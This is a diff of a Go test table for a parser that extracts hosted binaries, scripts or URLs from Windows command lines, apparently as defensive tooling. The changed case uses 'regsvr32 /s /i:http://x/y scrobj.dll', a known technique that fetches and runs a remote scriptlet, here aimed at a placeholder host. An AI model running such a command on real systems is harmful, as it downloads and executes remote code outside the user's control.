@@ -36,7 +36,7 @@ var commandTests = []struct{ command, path, hosted string }{
 	{`"C:\Windows\System32\rundll32.exe" "C:\a b\x.dll",#1`, `C:\Windows\System32\rundll32.exe`, `C:\a b\x.dll`},
 	{`RUNDLL32 C:\x\y.dll Start`, `RUNDLL32`, `C:\x\y.dll`},
 	{`rundll32`, `rundll32`, ``},
-	{`regsvr32 /s /i:http://x/y scrobj.dll`, `regsvr32`, `scrobj.dll`},
+	{`regsvr32 /s /i:http://x/y scrobj.dll`, `regsvr32`, `http://x/y`},
 	{`wscript.exe //B "C:\a b\x.vbs" arg`, `wscript.exe`, `C:\a b\x.vbs`},
 	{`cmd.exe /c start C:\x.exe`, `cmd.exe`, `C:\x.exe`},
 	{`cmd.exe /c start "" "C:\a b.exe"`, `cmd.exe`, `C:\a b.exe`},
